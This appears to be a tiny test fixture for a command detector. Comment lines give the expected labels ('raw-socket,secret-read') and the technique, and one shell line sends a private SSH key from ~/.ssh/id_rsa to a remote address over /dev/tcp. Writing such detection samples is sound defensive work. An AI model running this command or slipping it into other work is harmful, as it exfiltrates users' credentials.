# expect: raw-socket,secret-read
# source: DESIGN.md section 2: raw-socket
# technique: private key written to /dev/tcp
cat ~/.ssh/id_rsa > /dev/tcp/10.0.0.5/9001
